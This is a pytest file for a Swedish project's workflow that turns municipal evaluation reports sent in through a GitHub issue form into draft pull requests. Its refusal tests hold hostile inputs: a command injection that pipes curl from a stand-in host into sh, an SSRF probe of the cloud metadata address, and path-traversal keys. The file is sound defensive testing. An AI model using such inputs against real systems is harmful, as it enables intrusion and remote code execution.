"""A report sent in with the issue form, through scripts/import_from_issue.py, as the workflow runs
it: a recorded ``issues`` event (tests/fixtures/issues/), the Word-made test PDF of
tests/reportdocx.py served by an injected downloader (no network), and what a contributor and a
maintainer then see: the pair, the review page and the Swedish comment. Also the refusals, the
caps on an untrusted PDF and the import's lack of network."""

from __future__ import annotations

import importlib.util
import json
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
import yaml
from projectcopy import ROOT, empty_project
from reportdocx import realistic_pdfs

from kommunkompassen import routes
from kommunkompassen.domain.reporttext import parse_report_text
from kommunkompassen.importers.from_issue import Caps, FetchError, _fetch, import_issue
from kommunkompassen.importers.issue_form import form_fields, render_body
from kommunkompassen.loading.archive import load_archive

EVENT = ROOT / "tests" / "fixtures" / "issues" / "skicka-in-rapport-labeled.json"
ATTACHMENT = "https://github.com/user-attachments/files/17234567/vargarda-2016.pdf"
CACHE = Path(tempfile.gettempdir()) / "kommunkompassen-test-pdfs"  # shared with test_report_import_realistic


@pytest.fixture(scope="module")
def made():
    CACHE.mkdir(exist_ok=True)
    return realistic_pdfs(load_archive(ROOT).frameworks["2016"], CACHE)


def _project(tmp_path: Path, catalogue: bool = True) -> Path:
    """Frameworks, reference files, the form, and (optionally) a catalogue-only file for Vårgårda 2016,
    as the to-do page lists it."""
    project = empty_project(tmp_path / "projekt")
    form = routes.project_path(project, routes.REPORT_FORM)
    form.parent.mkdir(parents=True)
    shutil.copyfile(routes.project_path(ROOT, routes.REPORT_FORM), form)
    if catalogue:
        fields = {"municipality": {"code": "1442", "name": "Vårgårda"}, "year": 2016, "framework": "2016",
                  "evaluators_note": "Källorna namnger inga utvärderare.",
                  "sources": [{"title": "Påhittad kommunsida", "url": "https://example.org/vargarda-kompassen",
                               "used_for": "År.", "quote": "Vårgårda utvärderades 2016.", "supports": ["year"]}]}
        (project / "data" / "evaluations" / "vargarda-2016.yaml").write_text(yaml.safe_dump(
            {**fields, "imported": {"file": "data/reference/published-results.yaml", "fields": fields}},
            allow_unicode=True, sort_keys=False), encoding="utf-8")
    return project


def _script():
    spec = importlib.util.spec_from_file_location("import_from_issue", ROOT / "scripts" / "import_from_issue.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _serve(pdf: Path, asked: list):
    def fetch(url: str, dest: Path, caps: Caps) -> Path:
        asked.append(url)
        shutil.copyfile(pdf, dest)
        return dest
    return fetch


def test_a_sent_in_report_becomes_a_valid_pair_a_review_page_and_a_swedish_comment(made, tmp_path, capsys,
                                                                                     monkeypatch):
    spec, pdfs = made
    project, out, asked = _project(tmp_path), tmp_path / "ut", []
    monkeypatch.setenv("GITHUB_OUTPUT", str(tmp_path / "github-output"))
    code = _script().main(["import_from_issue", str(EVENT), "--ut", str(out), "--rot", str(project)],
                          fetch=_serve(pdfs["word"], asked))
    assert code == 0
    assert asked == [ATTACHMENT]  # the issue's own attachment, nothing else
    result = json.loads((out / "resultat.json").read_text(encoding="utf-8"))
    assert result == {"status": "ok", "issue": 123, "key": "vargarda-2016", "title": "Vårgårda 2016",
                      "files": ["data/evaluations/vargarda-2016.yaml", "data/evaluations/vargarda-2016.md"],
                      "branch": "import/rapport-123", "pr_title": "Utvärdering: Vårgårda 2016 (från #123)",
                      "replaces_catalogue_file": True, "valid": True}
    # what the workflow's next steps read
    assert (tmp_path / "github-output").read_text(encoding="utf-8") == "status=ok\nkey=vargarda-2016\nvalid=true\n"

    # the pair, in place of the catalogue file, loads with the archive and says what the report prints
    for name in ("vargarda-2016.yaml", "vargarda-2016.md"):
        shutil.copyfile(out / "utkast" / "data" / "evaluations" / name, project / "data" / "evaluations" / name)
    [ev] = load_archive(project).evaluations
    assert ev.data.total.value == spec.total
    for qid, (points, maximum, percent) in spec.scores.items():
        row = ev.question_score(qid)
        assert (row.score.value, row.max.value, row.percent.value) == (points, maximum, percent), qid
    text = parse_report_text((out / "utkast" / "data" / "evaluations" / "vargarda-2016.md").read_text(encoding="utf-8"))
    assert text.areas[1].strengths == spec.areas[0].strengths
    sources = [(s.title, s.url) for s in ev.data.sources]
    assert sources[0] == ("Kommunkompassen – Analys av Vårgårda 2016", ATTACHMENT)
    assert ("Påhittad kommunsida", "https://example.org/vargarda-kompassen") in sources  # the catalogue's, kept
    assert "ärende #123 av Kvalitetsstrateg, Vårgårda kommun" in ev.data.sources[0].used_for

    # the review page: one item per warned area, each beside a picture of its page
    page = (out / "granskning" / "vargarda-2016" / "index.html").read_text(encoding="utf-8")
    assert page.count('<section class="item">') == len(spec.areas)
    assert "<code>text.område 1</code>" in page and 'src="ruta-001.png"' in page
    assert (out / "granskning" / "vargarda-2016" / "ruta-001.png").stat().st_size > 1000

    comment = (out / "kommentar.md").read_text(encoding="utf-8")
    assert comment == capsys.readouterr().out.split("Skrev ")[0].rstrip("\n") + "\n"
    assert comment.startswith("## Utkast: Vårgårda 2016\n")
    assert "`vargarda-2016.pdf` (23 sidor, läst ur PDF:ens textlager)" in comment
    cells = 1 + len(spec.areas) + 3 * len(spec.scores)  # total, areas, score/max/percent per sub-question
    assert f"- **Celler lästa:** {cells} " in comment and "- **Celler okända:** 0." in comment
    for area in spec.areas:
        assert f"- **Område {area.number}:** sidan " in comment
    assert "Utkastet ersätter katalogposten för Vårgårda 2016" in comment
    assert "Utkastet validerar (`./dev check`)." in comment

    again = _script().main(["import_from_issue", str(EVENT), "--ut", str(out), "--rot", str(project)],
                           fetch=_serve(pdfs["word"], asked))
    assert again == 2 and len(asked) == 1  # a second run into the same folder is refused, nothing fetched
    assert "finns redan och är inte tom" in capsys.readouterr().err


def test_unknown_cells_are_listed_with_why_and_a_new_pair_is_made(archive, tmp_path):
    from reportpdf import synthetic_report, write_pdf

    fw = archive.frameworks["2016"]
    shares = {q.id: 40 + (i * 7) % 50 for i, q in enumerate(q for a in fw.areas for q in a.questions)}
    pages, _ = synthetic_report(fw, "Vårgårda", 2016, shares, damaged={"2.3": ("?", "20", f"{shares['2.3']} %")})
    pdf = write_pdf(tmp_path / "rapport.pdf", pages)
    out = tmp_path / "ut"
    outcome = import_issue(json.loads(EVENT.read_text(encoding="utf-8")), _project(tmp_path, catalogue=False), out,
                           fetch=_serve(pdf, []))
    assert outcome.status == "ok"
    assert "- **Celler okända:** 1:\n  - `areas.2.questions.2.3.score`: Oläslig i tabellen ('?').\n" in outcome.comment
    assert "katalogposten" not in outcome.comment
    page = (out / "granskning" / "vargarda-2016" / "index.html").read_text(encoding="utf-8")
    assert "<code>areas.2.questions.2.3.score</code>" in page and "Utkastets värde: <strong>okänt</strong>" in page


def test_without_score_tables_the_catalogue_file_s_version_is_used_and_marked(archive, tmp_path):
    """A report whose pages lack the score tables (only the text was sent) cannot tell its version; the
    catalogue file for the evaluation names one, which the draft takes as derived, saying so."""
    from reportpdf import synthetic_report, write_pdf

    fw = archive.frameworks["2016"]
    pages, _ = synthetic_report(fw, "Vårgårda", 2016, {q.id: 50 for a in fw.areas for q in a.questions})
    pdf = write_pdf(tmp_path / "rapport.pdf", pages[:2 + len(fw.areas)])  # title, summary, areas; no tables
    out = tmp_path / "ut"
    outcome = import_issue(json.loads(EVENT.read_text(encoding="utf-8")), _project(tmp_path), out,
                           fetch=_serve(pdf, []))
    assert outcome.status == "ok", outcome.comment
    draft = yaml.safe_load((out / "utkast" / "data" / "evaluations" / "vargarda-2016.yaml").read_text(encoding="utf-8"))
    assert draft["framework"]["value"] == "2016" and draft["framework"]["status"] == "derived"
    assert "- `framework`: härledd: Rapportens poängtabeller räckte inte för att avgöra versionen; 2016 är " \
           "katalogpostens version" in outcome.comment


def _event(**answers) -> dict:
    event = json.loads(EVENT.read_text(encoding="utf-8"))
    fields = form_fields(ROOT / routes.REPORT_FORM)
    values = {"kommun": "Vårgårda", "ar": "2016", "rapport": f"[vargarda-2016.pdf]({ATTACHMENT})",
              "samtycke": [fields["samtycke"]["options"][0]["label"]], **answers}
    event["issue"]["body"] = render_body(fields, values)
    return event


@pytest.mark.parametrize("answers, why", [
    ({"samtycke": []}, "Rutan om att rapporten är offentlig är inte ikryssad"),
    ({"kommun": "Vårgårda$(curl evil.example|sh)"}, "ingen kommun heter 'Vårgårda$(curl evil.example|sh)'"),
    ({"ar": "1990"}, "Året 1990 är inte möjligt"),
    ({"ar": "sextio"}, "Året saknas eller är inte ett årtal med fyra siffror"),
    ({"rapport": None}, "Rapporten saknas: bifoga PDF-filen"),
    ({"rapport": None, "lank": "http://vargarda.se/kompassen.pdf"}, "bara adresser som börjar med https:// hämtas"),
    ({"rapport": None, "lank": "https://169.254.169.254/latest/meta-data"}, "inte en IP-adress"),
    ({"rapport": "[x.pdf](https://github.com/someone/else/releases/download/v1/x.pdf)"},
     "från GitHub hämtas bara filer som bifogats i ärendet"),
])
def test_an_issue_that_cannot_be_imported_gets_a_comment_saying_why_and_nothing_is_fetched(tmp_path, answers, why):
    asked = []
    out = tmp_path / "ut"
    outcome = import_issue(_event(**answers), _project(tmp_path), out, fetch=_serve(Path("/nonexistent"), asked))
    assert outcome.status == "fel" and asked == []
    comment = (out / "kommentar.md").read_text(encoding="utf-8")
    assert comment.startswith("## Rapporten kunde inte importeras\n") and why in comment
    assert "`importera`" in comment  # what to do next
    assert json.loads((out / "resultat.json").read_text(encoding="utf-8")) == {"status": "fel", "issue": 123}
    assert not (out / "utkast").exists()


def test_a_link_to_another_site_is_fetched_when_nothing_is_attached(made, tmp_path):
    _, pdfs = made
    asked = []
    link = "https://www.vargarda.se/download/kommunkompassen-2016.pdf"
    outcome = import_issue(_event(rapport=None, lank=link), _project(tmp_path), tmp_path / "ut",
                           fetch=_serve(pdfs["word"], asked), caps=Caps(max_pages=1))
    assert asked == [link] and "rapporten har 23 sidor; importen läser högst 1" in outcome.comment


def test_a_hand_made_pair_on_the_site_is_never_replaced(tmp_path):
    project = _project(tmp_path, catalogue=False)
    (project / "data" / "evaluations" / "vargarda-2016.yaml").write_text("year: 2016\n", encoding="utf-8")
    outcome = import_issue(_event(), project, tmp_path / "ut", fetch=_serve(Path("/nonexistent"), []))
    assert outcome.status == "fel" and "importen skriver inte över dem" in outcome.comment


def test_the_page_and_time_caps_stop_an_import(made, tmp_path):
    _, pdfs = made
    event = json.loads(EVENT.read_text(encoding="utf-8"))
    pages = import_issue(event, _project(tmp_path), tmp_path / "a", fetch=_serve(pdfs["word"], []),
                         caps=Caps(max_pages=5))
    assert pages.status == "fel" and "rapporten har 23 sidor; importen läser högst 5" in pages.comment
    slow = import_issue(event, _project(tmp_path / "b"), tmp_path / "b" / "ut", fetch=_serve(pdfs["word"], []),
                        caps=Caps(import_seconds=0.01))
    assert slow.status == "fel" and "importen tog mer än 0.01 sekunder och avbröts" in slow.comment


class _Response:
    def __init__(self, body: bytes, headers: dict):
        self.body, self.headers = body, headers

    def read(self, n: int) -> bytes:
        chunk, self.body = self.body[:n], self.body[n:]
        return chunk

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False


@pytest.mark.parametrize("body, headers, why", [
    (b"%PDF-1.7\n" + b"0" * 3_000_000, {}, "filen är större än 2 MB"),
    (b"%PDF-1.7\n", {"Content-Length": "99999999"}, "filen är 95 MB; importen hämtar högst 2 MB"),
    (b"<html>inloggning</html>", {"Content-Type": "text/html; charset=utf-8"}, "adressen ger ingen PDF utan text/html"),
    (b"PK\x03\x04 a zip file", {"Content-Type": "application/octet-stream"}, "filen är ingen PDF"),
])
def test_the_download_takes_only_a_pdf_within_the_size_cap(tmp_path, body, headers, why):
    dest = tmp_path / "rapport.pdf"
    with pytest.raises(FetchError, match=why.replace("(", r"\(")):
        _fetch(lambda: _Response(body, headers), dest, Caps(max_bytes=2 << 20))
    assert not dest.exists()
    assert _fetch(lambda: _Response(b"%PDF-1.4\n...", {"Content-Type": "application/pdf"}), dest, Caps()) == dest


def test_the_download_refuses_an_address_on_the_runner_s_own_network(tmp_path):
    from kommunkompassen.importers.from_issue import download

    with pytest.raises(FetchError, match="adressen localhost leder inte till en allmän webbplats"):
        download("https://localhost/rapport.pdf", tmp_path / "rapport.pdf", Caps())


def test_the_import_step_cannot_reach_the_network():
    code = ("from kommunkompassen.importers.sandbox import refuse_network\n"
            "import socket, urllib.request\n"
            "refuse_network()\n"
            "for attempt in (lambda: socket.create_connection(('127.0.0.1', 9)),\n"
            "                lambda: socket.getaddrinfo('example.org', 443),\n"
            "                lambda: urllib.request.urlopen('https://example.org/', timeout=1)):\n"
            "    try:\n"
            "        attempt()\n"
            "    except Exception as exc:\n"
            "        print(type(exc).__name__, exc)\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, cwd=ROOT)
    lines = done.stdout.splitlines()
    assert len(lines) == 3 and all(line.startswith("NetworkRefused ingen nätverksåtkomst") for line in lines), done


def test_the_form_prefill_and_the_reader_agree_with_the_form_file():
    fields = form_fields(ROOT / routes.REPORT_FORM)
    assert list(fields) == ["kommun", "ar", "rapport", "lank", "avsandare", "samtycke"]
    assert [fid for fid, f in fields.items() if f["required"]] == ["kommun", "ar"]
    query = parse_qs(urlsplit(routes.report_form_url("Vårgårda", 2016)).query)
    assert query.pop("template") == [routes.REPORT_FORM.name]
    assert query.pop("title") == ["Rapport: Vårgårda 2016"]
    assert query == {"kommun": ["Vårgårda"], "ar": ["2016"]}  # the form's field ids
    guide = (ROOT / "CONTRIBUTING.md").read_text(encoding="utf-8")
    assert f"(../../issues/new?template={routes.REPORT_FORM.name})" in guide  # the form's link in the guide
    recorded = json.loads(EVENT.read_text(encoding="utf-8"))
    assert recorded["issue"]["body"].replace("\r\n", "\n") == render_body(fields, {
        "kommun": "Vårgårda", "ar": "2016",
        "rapport": f"Här är rapporten från oktober 2016.\n\n[vargarda-2016.pdf]({ATTACHMENT})",
        "avsandare": "Kvalitetsstrateg, Vårgårda kommun", "samtycke": [fields["samtycke"]["options"][0]["label"]]})


def test_the_to_do_page_and_the_municipality_pages_link_to_the_prefilled_form(fixture_site, fixture_archive):
    todo = fixture_site.page(routes.MISSING_REPORTS_PAGE)
    missing = [ev for ev in fixture_archive.evaluations if ev.completeness != "full_text"]
    assert missing
    for ev in missing:
        url = routes.report_form_url(ev.municipality.name, ev.year).replace("&", "&amp;")
        assert f'<a href="{url}" rel="nofollow noopener">Skicka in den</a> (utan Git)' in todo, ev.key
    page = fixture_site.page(routes.municipality_url("arvika"))
    assert f'<a href="{routes.report_form_url("Arvika").replace("&", "&amp;")}" rel="nofollow noopener">Skicka in den</a>' \
        in page


# --- the second job: branch, draft pull request, comment (kommunkompassen/importers/github_api.py) ---------


def _artifact(tmp_path: Path, yaml_text: str = "year: 2016\n", md_text: str = "## Område 1: X\n", **result) -> Path:
    """A folder as scripts/import_from_issue.py leaves it (the tests above check that it does)."""
    folder = tmp_path / "artefakt"
    pair = folder / "utkast" / "data" / "evaluations"
    pair.mkdir(parents=True, exist_ok=True)
    (pair / "vargarda-2016.yaml").write_text(yaml_text, encoding="utf-8")
    (pair / "vargarda-2016.md").write_text(md_text, encoding="utf-8")
    (folder / "kommentar.md").write_text("## Utkast: Vårgårda 2016\n\nSammanfattningen.\n", encoding="utf-8")
    record = {"status": "ok", "issue": 123, "key": "vargarda-2016", "title": "Vårgårda 2016",
              "files": ["data/evaluations/vargarda-2016.yaml", "data/evaluations/vargarda-2016.md"],
              "branch": "import/rapport-123", "pr_title": "Utvärdering: Vårgårda 2016 (från #123)", **result}
    (folder / "resultat.json").write_text(json.dumps(record, ensure_ascii=False), encoding="utf-8")
    return folder


def test_the_dry_run_prints_the_branch_the_draft_pull_request_and_the_comment(tmp_path):
    review = "https://github.com/kommunkompassen/kommunkompassen/actions/runs/42/artifacts/7"
    # -I -S: the runner's own Python without site-packages, as the workflow's write job runs it (no install)
    result = subprocess.run([sys.executable, "-I", "-S", str(ROOT / "scripts" / "open_import_pr.py"),
                             str(_artifact(tmp_path)), "--handelse", str(EVENT), "--granskning", review,
                             "--repo-mapp", str(tmp_path), "--dry-run"], capture_output=True, text=True, timeout=60,
                            cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert "git checkout --quiet -B import/rapport-123 origin/main" in out
    assert "git push --quiet origin HEAD:refs/heads/import/rapport-123" in out
    assert "POST https://api.github.com/repos/kommunkompassen/kommunkompassen/pulls\n" in out
    assert '"title": "Utvärdering: Vårgårda 2016 (från #123)"' in out and '"draft": true' in out
    assert "POST https://api.github.com/repos/kommunkompassen/kommunkompassen/issues/123/comments" in out
    comment = out.split("Kommentaren på #123:\n\n")[1]
    assert comment.startswith("## Utkast: Vårgårda 2016\n\nSammanfattningen.\n")
    assert f"**Granskningssidan och webbplatsen med utkastet** (zip-fil, för den som granskar): {review}" in comment
    assert list(tmp_path.glob("data")) == []  # nothing was written


@pytest.mark.parametrize("change, why", [
    ({"key": "../../.github/workflows/x"}, "is not an evaluation's key"),
    ({"issue": 124}, "is not about issue #123"),
    ({"pr_title": "Utvärdering: Vårgårda 2016 (från #99)"}, "is not a pull request title for issue #123"),
    ({"pr_title": "Utvärdering: @everyone 2016 (från #123)"}, "is not a pull request title"),
    ({"files": [".github/workflows/pr.yml", "data/evaluations/vargarda-2016.md"]}, "names other files"),
])
def test_the_second_job_takes_only_a_pair_for_its_own_issue_from_the_artifact(tmp_path, change, why):
    from kommunkompassen.importers.github_api import ArtifactError, read_artifact

    with pytest.raises(ArtifactError, match=re.escape(why)):
        read_artifact(_artifact(tmp_path, **change), 123)


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(cwd), *args], check=True, capture_output=True, text=True).stdout.strip()


def test_a_second_run_updates_the_branch_but_never_a_pair_a_maintainer_has_edited(tmp_path):
    from kommunkompassen.importers.github_api import Git, read_artifact, update_branch

    origin, work, maintainer = tmp_path / "origin.git", tmp_path / "work", tmp_path / "maintainer"
    subprocess.run(["git", "init", "--quiet", "--bare", "-b", "main", str(origin)], check=True)
    subprocess.run(["git", "clone", "--quiet", str(origin), str(work)], check=True, capture_output=True)
    (work / "data" / "evaluations").mkdir(parents=True)
    (work / "data" / "evaluations" / "vargarda-2016.yaml").write_text("imported: {}\n", encoding="utf-8")
    identity = ("-c", "user.name=Granskare", "-c", "user.email=granskare@example.org")
    _git(work, "add", ".")
    _git(work, *identity, "commit", "--quiet", "-m", "Katalogen")
    _git(work, "push", "--quiet", "origin", "HEAD:main")
    git = Git(work)

    first = read_artifact(_artifact(tmp_path / "1", "total: 400\n"), 123)
    assert update_branch(git, first, "main") == "created"
    assert _git(work, "show", "origin/import/rapport-123:data/evaluations/vargarda-2016.yaml") == "total: 400"
    assert update_branch(git, first, "main") == "unchanged"
    second = read_artifact(_artifact(tmp_path / "2", "total: 410\n"), 123)
    assert update_branch(git, second, "main") == "updated"
    assert _git(work, "show", "origin/import/rapport-123:data/evaluations/vargarda-2016.yaml") == "total: 410"

    # a maintainer corrects the draft on the branch; the next import leaves it alone
    subprocess.run(["git", "clone", "--quiet", "-b", "import/rapport-123", str(origin), str(maintainer)], check=True,
                   capture_output=True)
    (maintainer / "data" / "evaluations" / "vargarda-2016.yaml").write_text("total: 412\n", encoding="utf-8")
    _git(maintainer, *identity, "commit", "--quiet", "-am", "Rättat mot rapporten")
    _git(maintainer, "push", "--quiet")
    tip = _git(work, "ls-remote", "origin", "refs/heads/import/rapport-123")
    third = read_artifact(_artifact(tmp_path / "3", "total: 420\n"), 123)
    assert update_branch(git, third, "main") == "edited"
    assert _git(work, "ls-remote", "origin", "refs/heads/import/rapport-123") == tip  # no new commit
    assert _git(work, "show", "origin/import/rapport-123:data/evaluations/vargarda-2016.yaml") == "total: 412"


def test_an_import_that_crashed_is_said_in_the_issue_with_the_run(tmp_path):
    from scripts_inproc import run_script

    run = "https://github.com/kommunkompassen/kommunkompassen/actions/runs/42"
    result = run_script("open_import_pr", "--misslyckades", run, "--handelse", EVENT, "--dry-run")
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("POST https://api.github.com/repos/kommunkompassen/kommunkompassen/issues/123/comments")
    assert "## Importen avbröts" in result.stdout and run in result.stdout
